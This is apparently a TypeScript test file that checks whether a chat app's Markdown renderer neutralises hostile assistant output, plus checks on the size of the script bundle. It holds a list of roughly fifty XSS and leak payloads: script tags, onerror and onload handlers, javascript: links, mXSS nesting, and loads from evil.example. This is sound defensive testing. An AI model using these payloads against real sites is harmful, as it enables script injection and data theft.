// Answers are text from a machine that anybody may have talked into anything: whatever they hold, nothing of it runs,
// loads or leaves. And the weight of the script that a phone has to fetch.
import { readdir, readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Turn } from '#appliance/contracts/box.ts'
import { createFakeApi, type FakeApi } from '#test/fakes/api.ts'
import { buildPage, launch, noBrowser, open } from './browser.ts'

const hit = 'window.hit=1'
const attacks: readonly string[] = [
  `<script>${hit}</script>`,
  `<img src=x onerror="${hit}">`,
  `<svg onload="${hit}"></svg>`,
  `<svg><script>${hit}</script></svg>`,
  `<body onload="${hit}">`,
  `<iframe src="javascript:${hit}"></iframe>`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<object data="javascript:${hit}"></object>`,
  `<embed src="javascript:${hit}">`,
  `<a href="javascript:${hit}">press</a>`,
  `[press](javascript:${hit})`,
  `[press](JaVaScRiPt:${hit})`,
  `[press](java&#x73;cript:${hit})`,
  `[press](java\nscript:${hit})`,
  `[press](data:text/html,<script>${hit}</script>)`,
  `[press](vbscript:msgbox(1))`,
  `[press](/hob/v1/conversations)`,
  `[press](//evil.example/x)`,
  `![a](https://evil.example/leak.png)`,
  `![a](https://evil.example/leak.png "t" onerror=${hit})`,
  `![a"onerror="${hit}](x)`,
  `![a](javascript:${hit})`,
  `<img src="https://evil.example/p.gif?secret">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import url(https://evil.example/x.css);</style>`,
  `<div style="background:url(https://evil.example/y.png)">x</div>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example"><input autofocus onfocus="${hit}"><button>go</button></form>`,
  `<video><source onerror="${hit}"></video>`,
  `<audio src=https://evil.example/a.mp3 autoplay>`,
  `<details open ontoggle="${hit}">x</details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${hit}"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`,
  `<template><script>${hit}</script></template>`,
  `<input type="image" src="https://evil.example/i.png">`,
  `<button onclick="${hit}" class="code-copy">Copy</button>`,
  `<a href="https://ok.example" onmouseover="${hit}" target="_self">x</a>`,
  `[ref]\n\n[ref]: javascript:${hit}`,
  `<https://evil.example/"onmouseover="${hit}>`,
  `<javascript:${hit}>`,
  '```"><img src=x onerror=' + hit + '>\ncode\n```',
  '`<img src=x onerror=' + hit + '>`',
  `| <img src=x onerror="${hit}"> |\n|---|\n| <script>${hit}</script> |`,
  `# <img src=x onerror="${hit}">`,
  `- <svg/onload=${hit}>`,
  `<b id="hob"><b name="location">`,
  `&lt;script&gt;${hit}&lt;/script&gt;`,
]

const allowedTags = new Set(
  'div,p,br,hr,h2,h3,h4,h5,h6,strong,em,del,a,code,pre,blockquote,ul,ol,li,table,thead,tbody,tr,th,td,span,button'.split(
    ',',
  ),
)

describe.skipIf(noBrowser !== null)(
  `what an answer holds${noBrowser === null ? '' : ` (${noBrowser})`}`,
  () => {
    let browser: Browser
    let built: Awaited<ReturnType<typeof buildPage>>
    let api: FakeApi
    beforeAll(async () => {
      built = await buildPage()
      browser = await launch()
      api = await createFakeApi(built.folder)
      const turns = attacks.flatMap((content, index): Turn[] => {
        const turn: Turn = {
          id: `x${index}`,
          role: 'assistant',
          content,
          reasoning: content,
          state: 'complete',
          model: content,
          tokens: 1,
          tokensPerSecond: 1,
          firstTokenMs: 1,
          error: null,
          createdAt: '2026-11-20T18:30:00.000Z',
        }
        return [{ ...turn, id: `u${index}`, role: 'user' }, turn]
      })
      const [first] = api.conversations
      if (first !== undefined)
        api.conversations.push({
          conversation: {
            ...first.conversation,
            id: 'attacks',
            title: `<img src=x onerror="${hit}">`,
            turns: turns.length,
          },
          turns,
        })
    })
    afterAll(async () => {
      await browser.close()
      await api.close()
      await built.remove()
    })

    it(`runs nothing, loads nothing and sends nothing: ${attacks.length} attacks`, async () => {
      const { page, context, faults } = await open(browser, api.url, '/chat/attacks', { size: 'laptop' })
      // The last one is drawn by the renderer, not as the plain text that stands in before it came.
      await page.waitForFunction(() => document.querySelectorAll('.markdown .block').length > 40)
      await page.waitForLoadState('networkidle')
      const found = await page.evaluate(() => ({
        hit: 'hit' in window,
        elements: [...document.querySelectorAll('.markdown *')].map((element) => ({
          tag: element.tagName.toLowerCase(),
          attributes: Object.fromEntries([...element.attributes].map(({ name, value }) => [name, value])),
        })),
      }))
      expect(found.hit).toBe(false)
      expect(found.elements.length).toBeGreaterThan(80)
      for (const { tag, attributes } of found.elements) {
        expect(allowedTags.has(tag), tag).toBe(true)
        for (const [name, value] of Object.entries(attributes)) {
          expect(name).not.toMatch(/^on|^style$|^src|^id$|^name$|^action$/)
          if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/)
        }
        if (tag === 'a')
          expect(attributes).toMatchObject({ target: '_blank', rel: 'noopener noreferrer nofollow' })
      }
      for (const link of await page.locator('.markdown a').all()) await link.hover()
      expect(await page.evaluate(() => 'hit' in window)).toBe(false)
      expect(new URL(page.url()).origin).toBe(api.url)
      expect(faults).toEqual([])
      await context.close()
    })
  },
)

describe('the weight of the page', () => {
  const weigh = async (folder: string, names: readonly string[]): Promise<number> => {
    let bytes = 0
    for (const name of names) bytes += gzipSync(await readFile(join(folder, 'assets', name))).length
    return bytes
  }

  it('is at most 150 kB of script, compressed, and no file needs an inline script or style', async () => {
    const { folder, remove } = await buildPage()
    const files = await readdir(join(folder, 'assets'))
    const bytes = await weigh(
      folder,
      files.filter((file) => file.endsWith('.js')),
    )
    expect(bytes).toBeGreaterThan(10_000)
    expect(bytes).toBeLessThanOrEqual(150_000)
    for (const name of files) expect(name).toMatch(/-[\w-]{8}\.(js|css)$/)
    const html = await readFile(join(folder, 'index.html'), 'utf8')
    expect(html).not.toMatch(/<style|\sstyle=|<script(?![^>]*\ssrc=)/)
    expect(html).not.toMatch(/(src|href)="(https?:)?\/\//)
    await remove()
  })

  it.skipIf(noBrowser !== null)(
    'is at most 120 kB of script, compressed, before the chat works',
    async () => {
      const { folder, remove } = await buildPage()
      const browser = await launch()
      const api = await createFakeApi(folder)
      const { page } = await open(browser, api.url, '/chat/photos', { size: 'phone' })
      // the renderer of Markdown, which comes last, has drawn an answer
      await page.locator('.markdown table').waitFor()
      const fetched = await page.evaluate(() =>
        performance
          .getEntriesByType('resource')
          .map(({ name }) => new URL(name).pathname.split('/').at(-1) ?? ''),
      )
      const scripts = fetched.filter((name) => name.endsWith('.js'))
      expect(scripts.length).toBeGreaterThan(1)
      expect(await weigh(folder, scripts)).toBeLessThanOrEqual(120_000)
      // what lies under Box waits until it is opened
      expect(scripts.filter((name) => /Place/.test(name))).toEqual([])
      await browser.close()
      await api.close()
      await remove()
    },
  )
})
